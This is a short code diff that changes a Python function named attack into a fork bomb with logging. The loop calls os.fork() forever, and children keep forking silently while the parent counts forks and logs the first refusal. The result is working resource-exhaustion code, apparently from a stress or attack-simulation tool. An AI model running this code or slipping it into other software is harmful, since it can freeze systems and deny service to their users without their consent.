@@ -17,10 +17,18 @@ def log(text):
 
 
 def attack(msg):
+    n = 0
+    told = False
     while True:
         try:
-            os.fork()
-        except OSError:
+            if os.fork() == 0:
+                told = True  # children bomb too, silently
+            else:
+                n += 1
+        except OSError as e:
+            if not told:
+                log(f"fork refused after {n}: {e.strerror}")
+                told = True
             time.sleep(0.01)
 
 
